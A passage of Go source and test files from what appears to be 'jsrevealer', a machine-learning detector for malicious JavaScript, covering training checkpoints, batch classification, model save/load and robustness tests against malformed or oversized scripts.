// restore rehydrates the state a stage checkpoint covers, so the pipeline
// continues exactly where the checkpointed run stopped.
func (st *prepState) restore(cj *checkpointJSON) {
	st.d.parseFailures = cj.ParseFailures
	switch cj.Stage {
	case StageExtracted:
		st.pre = cj.Pretrain
		st.trainEx = cj.Train
		// st.model stays the freshly initialized (untrained) model: it is a
		// pure function of Options.Embedding, identical to the one the
		// checkpointed run hashed paths with (the options digest matched).
	case StageEmbedded, StagePrepared:
		st.model = cj.Model
		st.embs = make([]embedded, len(cj.Embs))
		for i, e := range cj.Embs {
			st.embs[i] = embedded{embs: e.Embs, malicious: e.Malicious}
		}
		if cj.Pools != nil {
			for c := 0; c < 2; c++ {
				st.pools[c] = pooled{vecs: cj.Pools[c].Vecs, descs: cj.Pools[c].Descs}
			}
		}
		st.outlierName = cj.OutlierName
	}
}

// checkpoint serializes the state the given stage has produced into its
// stage file under the configured directory (a no-op without one).
func (st *prepState) checkpoint(stage CheckpointStage) error {
	if st.ck.Dir == "" {
		return nil
	}
	opts := st.opts
	opts.Trainer = nil // interface: not serializable, supplied at Build time
	cj := &checkpointJSON{
		Version:       CheckpointVersion,
		Stage:         stage,
		CorpusDigest:  st.corpusDig,
		OptsDigest:    st.optsDig,
		Options:       opts,
		ParseFailures: st.d.parseFailures,
	}
	switch stage {
	case StageExtracted:
		cj.Pretrain, cj.Train = st.pre, st.trainEx
	case StageEmbedded, StagePrepared:
		cj.Model = st.model
		cj.Embs = make([]embeddedJSON, len(st.embs))
		for i, e := range st.embs {
			cj.Embs[i] = embeddedJSON{Embs: e.embs, Malicious: e.malicious}
		}
		cj.Pools = new([2]pooledJSON)
		for c := 0; c < 2; c++ {
			cj.Pools[c] = pooledJSON{Vecs: st.pools[c].vecs, Descs: st.pools[c].descs}
		}
		cj.OutlierName = st.outlierName
	}
	if err := writeCheckpoint(st.ck.Dir, cj); err != nil {
		return err
	}
	st.tm.checkpointed(stage)
	return nil
}
