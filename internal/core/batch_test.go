package core

import (
	"context"
	"testing"

	"jsrevealer/internal/js/parser"
)

// TestBatchMatchesPerScript pins the batched API's contract: for every test
// script, PrepareBatch + ClassifyBatch produces exactly the verdict
// DetectWithLimits produces.
func TestBatchMatchesPerScript(t *testing.T) {
	det, test := trainSmall(t, 50, 3)
	ctx := context.Background()

	prepared := make([]any, 0, len(test))
	var kept []int
	for i, s := range test {
		p, err := det.PrepareBatch(ctx, s.Source, parser.Limits{})
		if err != nil {
			t.Fatalf("PrepareBatch %d: %v", i, err)
		}
		prepared = append(prepared, p)
		kept = append(kept, i)
	}
	verdicts, err := det.ClassifyBatch(ctx, prepared)
	if err != nil {
		t.Fatalf("ClassifyBatch: %v", err)
	}
	if len(verdicts) != len(prepared) {
		t.Fatalf("got %d verdicts for %d prepared", len(verdicts), len(prepared))
	}
	for bi, ti := range kept {
		want, err := det.DetectWithLimits(ctx, test[ti].Source, parser.Limits{})
		if err != nil {
			t.Fatalf("DetectWithLimits %d: %v", ti, err)
		}
		if verdicts[bi] != want {
			t.Errorf("script %d: batch=%v per-script=%v", ti, verdicts[bi], want)
		}
	}
}

func TestBatchErrors(t *testing.T) {
	det, test := trainSmall(t, 40, 4)
	ctx := context.Background()

	// Unparseable input fails at prepare, like DetectWithLimits.
	if _, err := det.PrepareBatch(ctx, "function ((", parser.Limits{}); err == nil {
		t.Error("PrepareBatch accepted unparseable input")
	}
	// Foreign prepared state is rejected, not misclassified.
	if _, err := det.ClassifyBatch(ctx, []any{"not prepared"}); err == nil {
		t.Error("ClassifyBatch accepted foreign state")
	}
	// Untrained detectors refuse both halves.
	var blank Detector
	if _, err := blank.PrepareBatch(ctx, "x()", parser.Limits{}); err != ErrNotTrained {
		t.Errorf("untrained PrepareBatch err = %v", err)
	}
	if _, err := blank.ClassifyBatch(ctx, nil); err != ErrNotTrained {
		t.Errorf("untrained ClassifyBatch err = %v", err)
	}
	// Cancelled context aborts.
	cctx, cancel := context.WithCancel(ctx)
	cancel()
	if _, err := det.PrepareBatch(cctx, test[0].Source, parser.Limits{}); err == nil {
		t.Error("PrepareBatch ignored cancelled context")
	}
	p, err := det.PrepareBatch(ctx, test[0].Source, parser.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := det.ClassifyBatch(cctx, []any{p}); err == nil {
		t.Error("ClassifyBatch ignored cancelled context")
	}
	// Empty batch is a no-op.
	if out, err := det.ClassifyBatch(ctx, nil); err != nil || len(out) != 0 {
		t.Errorf("empty batch: out=%v err=%v", out, err)
	}
}
