package core

import (
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"

	"jsrevealer/internal/ml/nn"
)

// CheckpointVersion is the on-disk format version of training checkpoints.
// Loading a checkpoint written by a different version fails loudly rather
// than risking a silently wrong resume.
const CheckpointVersion = 1

// CheckpointStage identifies how far a training checkpoint got. Stages are
// strictly ordered: a later stage subsumes every earlier one, and resume
// picks the latest stage whose file exists and validates.
type CheckpointStage string

// The three checkpointable points of the preparation pipeline, in order.
const (
	// StageExtracted holds the parsed corpus reduced to path keys (and path
	// strings for the training set): resume skips lexing, parsing, data-flow
	// analysis, and path traversal.
	StageExtracted CheckpointStage = "extracted"
	// StageEmbedded additionally holds the pre-trained embedding model, the
	// embedded training scripts, and the pre-outlier path-vector pools:
	// resume skips embedding pre-training, the wall-clock dominator.
	StageEmbedded CheckpointStage = "embedded"
	// StagePrepared is the complete Prepared state after outlier filtering:
	// resume goes straight to Build.
	StagePrepared CheckpointStage = "prepared"
)

// checkpointStages lists the stages newest-first, the resume search order.
var checkpointStages = []CheckpointStage{StagePrepared, StageEmbedded, StageExtracted}

// CheckpointPath returns the file a given stage checkpoints to inside dir.
// Each stage uses its own file so a later interrupted stage never corrupts
// an earlier completed one.
func CheckpointPath(dir string, stage CheckpointStage) string {
	return filepath.Join(dir, "train-"+string(stage)+".ckpt.json")
}

// scriptKeys is one script reduced to its hashed path keys. Descs carries
// the printable path strings (training scripts only — they feed feature
// provenance); pretrain scripts omit them.
type scriptKeys struct {
	Keys      []nn.PathKey `json:"keys"`
	Descs     []string     `json:"descs,omitempty"`
	Malicious bool         `json:"malicious"`
}

// embeddedJSON is the serialized form of one embedded training script.
type embeddedJSON struct {
	Embs      []nn.Embedding `json:"embs"`
	Malicious bool           `json:"malicious"`
}

// pooledJSON is the serialized form of one per-class path-vector pool.
type pooledJSON struct {
	Vecs  [][]float64 `json:"vecs"`
	Descs []string    `json:"descs"`
}

// checkpointJSON is the single envelope every checkpoint stage serializes
// to. Which payload fields are populated depends on Stage; the digests gate
// resume against a changed corpus or configuration.
type checkpointJSON struct {
	Version       int             `json:"version"`
	Stage         CheckpointStage `json:"stage"`
	CorpusDigest  string          `json:"corpusDigest"`
	OptsDigest    string          `json:"optsDigest"`
	Options       Options         `json:"options"`
	ParseFailures int             `json:"parseFailures"`

	// StageExtracted payload.
	Pretrain []scriptKeys `json:"pretrain,omitempty"`
	Train    []scriptKeys `json:"train,omitempty"`

	// StageEmbedded payload (plus StagePrepared, where Pools are the
	// outlier-filtered ones and OutlierName records the selection).
	Model       *nn.Model       `json:"model,omitempty"`
	Embs        []embeddedJSON  `json:"embs,omitempty"`
	Pools       *[2]pooledJSON  `json:"pools,omitempty"`
	OutlierName string          `json:"outlierDetector,omitempty"`
}

// encodeCheckpoint renders cj as gzip-compressed JSON. Embedding vectors
// serialize to verbose decimal floats, so compression shrinks checkpoints
// by roughly an order of magnitude; readers sniff the gzip magic and accept
// plain JSON too.
func encodeCheckpoint(w io.Writer, cj *checkpointJSON) error {
	zw, err := gzip.NewWriterLevel(w, gzip.BestSpeed)
	if err != nil {
		return err
	}
	if err := json.NewEncoder(zw).Encode(cj); err != nil {
		zw.Close()
		return err
	}
	return zw.Close()
}

// decodeCheckpoint parses checkpoint bytes, transparently decompressing
// gzip-framed data (the written format; plain JSON is accepted for
// hand-crafted or legacy files).
func decodeCheckpoint(data []byte, cj *checkpointJSON) error {
	if len(data) >= 2 && data[0] == 0x1f && data[1] == 0x8b {
		zr, err := gzip.NewReader(bytes.NewReader(data))
		if err != nil {
			return err
		}
		defer zr.Close()
		return json.NewDecoder(zr).Decode(cj)
	}
	return json.Unmarshal(data, cj)
}

// writeCheckpoint atomically writes cj to its stage file under dir: encode
// into a temp file in the same directory, then rename over the target, so a
// crash mid-write never leaves a truncated checkpoint behind.
func writeCheckpoint(dir string, cj *checkpointJSON) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return fmt.Errorf("core: checkpoint: %w", err)
	}
	tmp, err := os.CreateTemp(dir, "."+string(cj.Stage)+".tmp-*")
	if err != nil {
		return fmt.Errorf("core: checkpoint: %w", err)
	}
	defer os.Remove(tmp.Name())
	if err := encodeCheckpoint(tmp, cj); err != nil {
		tmp.Close()
		return fmt.Errorf("core: checkpoint %s: %w", cj.Stage, err)
	}
	if err := tmp.Close(); err != nil {
		return fmt.Errorf("core: checkpoint %s: %w", cj.Stage, err)
	}
	if err := os.Rename(tmp.Name(), CheckpointPath(dir, cj.Stage)); err != nil {
		return fmt.Errorf("core: checkpoint %s: %w", cj.Stage, err)
	}
	return nil
}

// readCheckpoint loads and validates one stage file. A missing file returns
// (nil, nil); a present-but-invalid file (corrupt JSON, version mismatch,
// digest mismatch) returns an error — resuming from wrong state must be
// loud, never silent.
func readCheckpoint(dir string, stage CheckpointStage, corpusDig, optsDig string) (*checkpointJSON, error) {
	path := CheckpointPath(dir, stage)
	data, err := os.ReadFile(path)
	if errors.Is(err, os.ErrNotExist) {
		return nil, nil
	}
	if err != nil {
		return nil, fmt.Errorf("core: checkpoint: %w", err)
	}
	var cj checkpointJSON
	if err := decodeCheckpoint(data, &cj); err != nil {
		return nil, fmt.Errorf("core: checkpoint %s: corrupt: %w", path, err)
	}
	if cj.Version != CheckpointVersion {
		return nil, fmt.Errorf("core: checkpoint %s: version %d, want %d", path, cj.Version, CheckpointVersion)
	}
	if cj.Stage != stage {
		return nil, fmt.Errorf("core: checkpoint %s: stage %q, want %q", path, cj.Stage, stage)
	}
	if corpusDig != "" && cj.CorpusDigest != corpusDig {
		return nil, fmt.Errorf("core: checkpoint %s: written for a different corpus (digest %s, want %s); delete the checkpoint directory to refit",
			path, short(cj.CorpusDigest), short(corpusDig))
	}
	if optsDig != "" && cj.OptsDigest != optsDig {
		return nil, fmt.Errorf("core: checkpoint %s: written under different options (digest %s, want %s); delete the checkpoint directory to refit",
			path, short(cj.OptsDigest), short(optsDig))
	}
	return &cj, nil
}

// loadLatest returns the newest-stage valid checkpoint in dir, or nil when
// no stage file exists.
func loadLatest(dir, corpusDig, optsDig string) (*checkpointJSON, error) {
	for _, stage := range checkpointStages {
		cj, err := readCheckpoint(dir, stage, corpusDig, optsDig)
		if err != nil {
			return nil, err
		}
		if cj != nil {
			return cj, nil
		}
	}
	return nil, nil
}

// short abbreviates a digest for error messages.
func short(d string) string {
	if len(d) > 12 {
		return d[:12]
	}
	return d
}

// corpusDigest fingerprints the training inputs: sample counts, labels, and
// source bytes of both sets, in order. Resume refuses checkpoints whose
// digest differs — path keys baked into a checkpoint are only valid for the
// exact corpus they were extracted from.
func corpusDigest(train, pretrain []Sample) string {
	h := sha256.New()
	var buf [8]byte
	writeSet := func(tag string, set []Sample) {
		h.Write([]byte(tag))
		binary.LittleEndian.PutUint64(buf[:], uint64(len(set)))
		h.Write(buf[:])
		for _, s := range set {
			b := byte(0)
			if s.Malicious {
				b = 1
			}
			h.Write([]byte{b})
			binary.LittleEndian.PutUint64(buf[:], uint64(len(s.Source)))
			h.Write(buf[:])
			h.Write([]byte(s.Source))
		}
	}
	writeSet("train\n", train)
	writeSet("pretrain\n", pretrain)
	return hex.EncodeToString(h.Sum(nil))
}

// optionsDigest fingerprints the options that shape preparation state.
// Build-time knobs (K values, overlap threshold, trainer, uniform weights)
// and pure parallelism knobs (TrainWorkers; Embedding.TrainWorkers is
// excluded from nn.Config's JSON form) are zeroed first, so a K sweep or a
// different worker count reuses the same checkpoints.
func optionsDigest(opts Options) string {
	opts.Trainer = nil
	opts.TrainWorkers = 0
	opts.KBenign, opts.KMalicious = 0, 0
	opts.OverlapThreshold = 0
	opts.UniformWeights = false
	data, err := json.Marshal(opts)
	if err != nil {
		// Options is a plain data struct after nilling Trainer; marshal
		// cannot fail. Guard anyway so a future field can't panic training.
		return "unmarshalable:" + err.Error()
	}
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:])
}

// Save writes the complete prepared state to one file, the same
// gzip-compressed JSON format as a StagePrepared checkpoint. A saved
// Prepared can Build detectors for many (K, classifier) combinations in
// later processes without refitting.
func (p *Prepared) Save(path string) error {
	var buf bytes.Buffer
	if err := encodeCheckpoint(&buf, p.toCheckpoint()); err != nil {
		return fmt.Errorf("core: save prepared: %w", err)
	}
	return os.WriteFile(path, buf.Bytes(), 0o644)
}

// LoadPrepared reads prepared training state written by Prepared.Save (or a
// train-prepared.ckpt.json checkpoint file directly).
func LoadPrepared(path string) (*Prepared, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("core: load prepared: %w", err)
	}
	var cj checkpointJSON
	if err := decodeCheckpoint(data, &cj); err != nil {
		return nil, fmt.Errorf("core: load prepared %s: %w", path, err)
	}
	if cj.Version != CheckpointVersion {
		return nil, fmt.Errorf("core: load prepared %s: version %d, want %d", path, cj.Version, CheckpointVersion)
	}
	if cj.Stage != StagePrepared || cj.Model == nil || cj.Pools == nil {
		return nil, fmt.Errorf("core: load prepared %s: not a prepared-stage checkpoint", path)
	}
	p := &Prepared{
		opts:                cj.Options,
		model:               cj.Model,
		OutlierDetectorName: cj.OutlierName,
		acct:                newStageAccount(),
		parseFailures:       cj.ParseFailures,
		corpusDigest:        cj.CorpusDigest,
		optsDigest:          cj.OptsDigest,
	}
	p.embs = make([]embedded, len(cj.Embs))
	for i, e := range cj.Embs {
		p.embs[i] = embedded{embs: e.Embs, malicious: e.Malicious}
	}
	for c := 0; c < 2; c++ {
		p.pools[c] = pooled{vecs: cj.Pools[c].Vecs, descs: cj.Pools[c].Descs}
	}
	return p, nil
}

// toCheckpoint renders the prepared state as a StagePrepared envelope.
func (p *Prepared) toCheckpoint() *checkpointJSON {
	opts := p.opts
	opts.Trainer = nil // interface: not serializable, supplied at Build time
	cj := &checkpointJSON{
		Version:       CheckpointVersion,
		Stage:         StagePrepared,
		CorpusDigest:  p.corpusDigest,
		OptsDigest:    p.optsDigest,
		Options:       opts,
		ParseFailures: p.parseFailures,
		Model:         p.model,
		OutlierName:   p.OutlierDetectorName,
		Pools:         new([2]pooledJSON),
	}
	cj.Embs = make([]embeddedJSON, len(p.embs))
	for i, e := range p.embs {
		cj.Embs[i] = embeddedJSON{Embs: e.embs, Malicious: e.malicious}
	}
	for c := 0; c < 2; c++ {
		cj.Pools[c] = pooledJSON{Vecs: p.pools[c].vecs, Descs: p.pools[c].descs}
	}
	return cj
}
