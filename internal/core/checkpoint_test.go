package core

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"jsrevealer/internal/obs"
)

// TestPreparedSaveLoadRoundTrip: a Prepared persisted with Save builds the
// same detector after LoadPrepared in a fresh process.
func TestPreparedSaveLoadRoundTrip(t *testing.T) {
	train, _ := smallSplit(t, 40, 7)
	opts := smallOptions(7)
	p, err := Prepare(train, nil, opts)
	if err != nil {
		t.Fatalf("Prepare: %v", err)
	}
	want := buildFingerprint(t, p, opts)

	path := filepath.Join(t.TempDir(), "prepared.json")
	if err := p.Save(path); err != nil {
		t.Fatalf("Save: %v", err)
	}
	loaded, err := LoadPrepared(path)
	if err != nil {
		t.Fatalf("LoadPrepared: %v", err)
	}
	if got := buildFingerprint(t, loaded, opts); got != want {
		t.Errorf("loaded Prepared fingerprint %s, want %s", got, want)
	}
	if loaded.OutlierDetectorName != p.OutlierDetectorName {
		t.Errorf("OutlierDetectorName %q, want %q", loaded.OutlierDetectorName, p.OutlierDetectorName)
	}
	if loaded.ParseFailures() != p.ParseFailures() {
		t.Errorf("ParseFailures %d, want %d", loaded.ParseFailures(), p.ParseFailures())
	}
}

func buildFingerprint(t *testing.T, p *Prepared, opts Options) string {
	t.Helper()
	det, err := p.Build(opts.KBenign, opts.KMalicious, nil)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	fp, err := det.Fingerprint()
	if err != nil {
		t.Fatalf("Fingerprint: %v", err)
	}
	return fp
}

// TestLoadPreparedRejectsVersionMismatch: format changes must fail loudly.
// The file is plain JSON on purpose — readers sniff the gzip magic and
// accept both framings.
func TestLoadPreparedRejectsVersionMismatch(t *testing.T) {
	path := filepath.Join(t.TempDir(), "prepared.json")
	if err := os.WriteFile(path, []byte(`{"version":999,"stage":"prepared"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadPrepared(path); err == nil || !strings.Contains(err.Error(), "version") {
		t.Fatalf("LoadPrepared on version 999: err = %v, want version error", err)
	}
}

// TestCorruptCheckpointFailsLoudly: a truncated stage file must error, not
// silently refit or resume from garbage.
func TestCorruptCheckpointFailsLoudly(t *testing.T) {
	train, _ := smallSplit(t, 40, 7)
	opts := smallOptions(7)
	dir := t.TempDir()
	if _, err := PrepareCheckpointed(context.Background(), train, nil, opts,
		CheckpointConfig{Dir: dir}); err != nil {
		t.Fatalf("PrepareCheckpointed: %v", err)
	}
	path := CheckpointPath(dir, StagePrepared)
	if err := os.WriteFile(path, []byte(`{"version":1,"stage":"prep`), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := PrepareCheckpointed(context.Background(), train, nil, opts,
		CheckpointConfig{Dir: dir, Resume: true}); err == nil {
		t.Fatal("resume from corrupt checkpoint succeeded; want error")
	}
}

// TestResumeWithEmptyDirStartsFresh: no checkpoint files is not an error.
func TestResumeWithEmptyDirStartsFresh(t *testing.T) {
	train, _ := smallSplit(t, 40, 7)
	p, err := PrepareCheckpointed(context.Background(), train, nil, smallOptions(7),
		CheckpointConfig{Dir: t.TempDir(), Resume: true})
	if err != nil {
		t.Fatalf("PrepareCheckpointed: %v", err)
	}
	if p == nil {
		t.Fatal("nil Prepared")
	}
}

// TestTrainMetricsRecorded: a Prepare run routes script, progress, stage,
// and checkpoint metrics into the context's registry.
func TestTrainMetricsRecorded(t *testing.T) {
	train, _ := smallSplit(t, 40, 7)
	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	if _, err := PrepareCheckpointed(ctx, train, nil, smallOptions(7),
		CheckpointConfig{Dir: t.TempDir()}); err != nil {
		t.Fatalf("PrepareCheckpointed: %v", err)
	}
	// A nil pretrain set reuses the training set, so both passes count.
	parsed := reg.Counter(TrainScriptsMetric, "", obs.Labels{"result": "parsed"}).Value()
	if parsed != int64(2*len(train)) {
		t.Errorf("parsed scripts = %d, want %d", parsed, 2*len(train))
	}
	if got := reg.Gauge(TrainProgressMetric, "", nil).Value(); got != 1 {
		t.Errorf("progress gauge = %v, want 1", got)
	}
	for _, stage := range checkpointStages {
		n := reg.Counter(TrainCheckpointsMetric, "", obs.Labels{"stage": string(stage)}).Value()
		if n != 1 {
			t.Errorf("checkpoints{stage=%s} = %d, want 1", stage, n)
		}
	}
	for _, s := range []string{"extract", "pretrain", "embed", "outlier"} {
		h := reg.Histogram(TrainStageDurationMetric, "", obs.DefDurationBuckets, obs.Labels{"stage": s})
		if h.Count() != 1 {
			t.Errorf("stage duration{stage=%s} count = %d, want 1", s, h.Count())
		}
	}
}
