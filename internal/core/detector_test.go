package core

import (
	"path/filepath"
	"testing"

	"jsrevealer/internal/corpus"
	"jsrevealer/internal/ml/classify"
)

// smallOptions shrinks the pipeline so unit tests stay fast.
func smallOptions(seed int64) Options {
	opts := DefaultOptions()
	opts.Seed = seed
	opts.Embedding.Seed = seed
	opts.Embedding.Dim = 24
	opts.Embedding.Epochs = 5
	opts.Path.MaxPaths = 400
	opts.MaxPoolPerClass = 800
	return opts
}

func smallSplit(t *testing.T, n int, seed int64) ([]Sample, []corpus.Sample) {
	t.Helper()
	samples := corpus.Generate(corpus.Config{Benign: n, Malicious: n, Seed: seed})
	var train []Sample
	var test []corpus.Sample
	for i, s := range samples {
		if i%4 == 3 {
			test = append(test, s)
		} else {
			train = append(train, Sample{Source: s.Source, Malicious: s.Malicious})
		}
	}
	return train, test
}

func trainSmall(t *testing.T, n int, seed int64) (*Detector, []corpus.Sample) {
	t.Helper()
	train, test := smallSplit(t, n, seed)
	det, err := Train(train, nil, smallOptions(seed))
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	return det, test
}

func TestTrainAndDetect(t *testing.T) {
	det, test := trainSmall(t, 60, 1)
	correct := 0
	for _, s := range test {
		pred, err := det.Detect(s.Source)
		if err != nil {
			t.Fatalf("Detect: %v", err)
		}
		if pred == s.Malicious {
			correct++
		}
	}
	if acc := float64(correct) / float64(len(test)); acc < 0.8 {
		t.Errorf("accuracy = %.2f, want >= 0.8", acc)
	}
}

func TestFeatureCountMatchesK(t *testing.T) {
	det, _ := trainSmall(t, 40, 2)
	// K=11 benign + K=10 malicious, minus overlap removals (usually none).
	n := len(det.Features())
	if n < 15 || n > 21 {
		t.Errorf("features = %d, want close to 21", n)
	}
	benign, malicious := 0, 0
	for _, f := range det.Features() {
		if f.FromMalicious {
			malicious++
		} else {
			benign++
		}
		if f.CentralPath == "" {
			t.Error("feature missing central path")
		}
		if len(f.Centroid) == 0 {
			t.Error("feature missing centroid")
		}
	}
	if benign == 0 || malicious == 0 {
		t.Errorf("feature origins: %d benign, %d malicious", benign, malicious)
	}
}

func TestUntrainedDetectorErrors(t *testing.T) {
	var d Detector
	if _, err := d.Detect("var x = 1;"); err != ErrNotTrained {
		t.Errorf("err = %v, want ErrNotTrained", err)
	}
}

func TestDetectRejectsUnparseable(t *testing.T) {
	det, _ := trainSmall(t, 30, 3)
	if _, err := det.Detect("var = = ;"); err == nil {
		t.Error("unparseable input accepted")
	}
}

func TestEmptyTrainingSetRejected(t *testing.T) {
	if _, err := Train(nil, nil, DefaultOptions()); err == nil {
		t.Error("empty training set accepted")
	}
	bad := []Sample{{Source: "var = ;"}}
	if _, err := Train(bad, nil, DefaultOptions()); err == nil {
		t.Error("all-unparseable training set accepted")
	}
}

func TestPrepareBuildReuse(t *testing.T) {
	train, test := smallSplit(t, 40, 4)
	prep, err := Prepare(train, nil, smallOptions(4))
	if err != nil {
		t.Fatal(err)
	}
	if len(prep.PoolVectors(false)) == 0 || len(prep.PoolVectors(true)) == 0 {
		t.Fatal("empty pools after Prepare")
	}
	// Build two detectors with different K from one preparation.
	d1, err := prep.Build(5, 4, nil)
	if err != nil {
		t.Fatal(err)
	}
	d2, err := prep.Build(11, 10, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(d1.Features()) >= len(d2.Features()) {
		t.Errorf("K=5/4 gave %d features, K=11/10 gave %d",
			len(d1.Features()), len(d2.Features()))
	}
	// Both must classify.
	for _, d := range []*Detector{d1, d2} {
		if _, err := d.Detect(test[0].Source); err != nil {
			t.Fatal(err)
		}
	}
}

func TestBuildRejectsOversizedK(t *testing.T) {
	train, _ := smallSplit(t, 10, 5)
	opts := smallOptions(5)
	opts.Path.MaxPaths = 10
	opts.MaxPoolPerClass = 12
	prep, err := Prepare(train, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := prep.Build(5000, 5000, nil); err == nil {
		t.Error("K larger than the pool accepted")
	}
}

func TestExplainReturnsRankedFeatures(t *testing.T) {
	det, _ := trainSmall(t, 50, 6)
	feats, err := det.Explain(5)
	if err != nil {
		t.Fatal(err)
	}
	if len(feats) != 5 {
		t.Fatalf("Explain(5) returned %d features", len(feats))
	}
	for i := 1; i < len(feats); i++ {
		if feats[i].Importance > feats[i-1].Importance {
			t.Error("features not sorted by importance")
		}
	}
}

func TestExplainRequiresForest(t *testing.T) {
	train, _ := smallSplit(t, 30, 7)
	opts := smallOptions(7)
	opts.Trainer = &classify.GaussianNBTrainer{}
	det, err := Train(train, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := det.Explain(5); err == nil {
		t.Error("Explain should require the random forest")
	}
}

func TestAlternativeClassifiers(t *testing.T) {
	train, test := smallSplit(t, 40, 8)
	for _, tr := range []classify.Trainer{
		&classify.LogisticRegressionTrainer{Seed: 8},
		&classify.LinearSVMTrainer{Seed: 8},
		&classify.DecisionTreeTrainer{},
	} {
		opts := smallOptions(8)
		opts.Trainer = tr
		det, err := Train(train, nil, opts)
		if err != nil {
			t.Fatalf("%s: %v", tr.Name(), err)
		}
		if _, err := det.Detect(test[0].Source); err != nil {
			t.Fatalf("%s detect: %v", tr.Name(), err)
		}
	}
}

func TestRegularASTOptions(t *testing.T) {
	opts := RegularASTOptions()
	if opts.Path.UseDataFlow {
		t.Error("regular AST should disable data flow")
	}
	if opts.KBenign != 5 || opts.KMalicious != 6 {
		t.Errorf("regular AST K = %d/%d, want 5/6", opts.KBenign, opts.KMalicious)
	}
	train, test := smallSplit(t, 40, 9)
	opts.Embedding.Dim = 24
	opts.Embedding.Epochs = 5
	opts.Path.MaxPaths = 400
	opts.MaxPoolPerClass = 800
	det, err := Train(train, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := det.Detect(test[0].Source); err != nil {
		t.Fatal(err)
	}
}

func TestTimingsAccumulate(t *testing.T) {
	det, test := trainSmall(t, 30, 10)
	if det.Timings().FilesProcessed == 0 {
		t.Error("no files counted during training")
	}
	if tm := det.Timings(); tm.PreTraining == 0 || tm.Clustering == 0 {
		t.Error("stage timings not recorded")
	}
	before := det.Timings().Classifying
	if _, err := det.Detect(test[0].Source); err != nil {
		t.Fatal(err)
	}
	if det.Timings().Classifying <= before {
		t.Error("classification timing did not advance")
	}
}

func TestSaveLoadRoundTrip(t *testing.T) {
	det, test := trainSmall(t, 40, 11)
	path := filepath.Join(t.TempDir(), "model.json")
	if err := det.Save(path); err != nil {
		t.Fatal(err)
	}
	restored, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range test[:10] {
		want, err1 := det.Detect(s.Source)
		got, err2 := restored.Detect(s.Source)
		if err1 != nil || err2 != nil {
			t.Fatal(err1, err2)
		}
		if want != got {
			t.Fatal("restored detector disagrees with original")
		}
	}
	if len(restored.Features()) != len(det.Features()) {
		t.Error("features lost in round trip")
	}
}

func TestSaveRequiresForest(t *testing.T) {
	train, _ := smallSplit(t, 30, 12)
	opts := smallOptions(12)
	opts.Trainer = &classify.GaussianNBTrainer{}
	det, err := Train(train, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	if err := det.Save(filepath.Join(t.TempDir(), "m.json")); err == nil {
		t.Error("Save should refuse non-forest classifiers")
	}
}

func TestLoadMissingFile(t *testing.T) {
	if _, err := Load(filepath.Join(t.TempDir(), "absent.json")); err == nil {
		t.Error("loading a missing file should fail")
	}
}

func TestSeparatePretrainCorpus(t *testing.T) {
	train, test := smallSplit(t, 30, 13)
	pre, _ := smallSplit(t, 30, 14)
	det, err := Train(train, pre, smallOptions(13))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := det.Detect(test[0].Source); err != nil {
		t.Fatal(err)
	}
}

func TestDetectorName(t *testing.T) {
	var d Detector
	if d.Name() != "JSRevealer" {
		t.Errorf("Name = %q", d.Name())
	}
}
