package core

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"jsrevealer/internal/corpus"
	"jsrevealer/internal/js/lexer"
	"jsrevealer/internal/js/parser"
)

// The robustness tests share one small detector; training dominates their
// runtime otherwise.
var (
	robustOnce sync.Once
	robustDet  *Detector
	robustTest []corpus.Sample
	robustErr  error
)

func robustDetector(t *testing.T) (*Detector, []corpus.Sample) {
	t.Helper()
	robustOnce.Do(func() {
		train, test := smallSplit(t, 30, 3)
		robustTest = test
		robustDet, robustErr = Train(train, nil, smallOptions(3))
	})
	if robustErr != nil {
		t.Fatalf("Train: %v", robustErr)
	}
	return robustDet, robustTest
}

// TestDetectEmptyInput: an empty script must produce a verdict (the
// zero-feature vector is classifiable), not an error or panic.
func TestDetectEmptyInput(t *testing.T) {
	det, _ := robustDetector(t)
	if _, err := det.Detect(""); err != nil {
		t.Fatalf("Detect(\"\"): %v", err)
	}
}

// TestDetectNonUTF8 feeds byte garbage; the pipeline must return a bounded
// parse error instead of hanging or exhausting memory (the lexer used to
// spin forever emitting empty tokens for such bytes).
func TestDetectNonUTF8(t *testing.T) {
	det, _ := robustDetector(t)
	done := make(chan error, 1)
	go func() {
		_, err := det.Detect("var a = 1; \xff\xfe\x80\x81")
		done <- err
	}()
	select {
	case err := <-done:
		if err == nil {
			t.Fatal("want a parse error for non-UTF-8 input, got nil")
		}
	case <-time.After(30 * time.Second):
		t.Fatal("Detect hung on non-UTF-8 input")
	}
}

// TestDetectDeepNesting: 100k nested parentheses must hit the recursion
// guard, not the goroutine stack.
func TestDetectDeepNesting(t *testing.T) {
	det, _ := robustDetector(t)
	src := "var x = " + strings.Repeat("(", 100000) + "1" + strings.Repeat(")", 100000) + ";"
	_, err := det.Detect(src)
	if !errors.Is(err, parser.ErrTooDeep) {
		t.Fatalf("want ErrTooDeep, got %v", err)
	}
}

// TestDetect10MBFile: a generated 10MB script must yield a bounded outcome.
// With a token cap the guard trips fast; without one, the linear-time
// pipeline must still finish (no hang) inside a generous budget.
func TestDetect10MBFile(t *testing.T) {
	if testing.Short() {
		t.Skip("10MB pipeline run in -short mode")
	}
	det, _ := robustDetector(t)
	var sb strings.Builder
	for sb.Len() < 10<<20 {
		sb.WriteString("var v0 = \"padding padding padding\"; function f1(a, b) { return a + b * 2; }\n")
	}
	src := sb.String()

	// Guarded: the token cap turns the oversized input into a fast error.
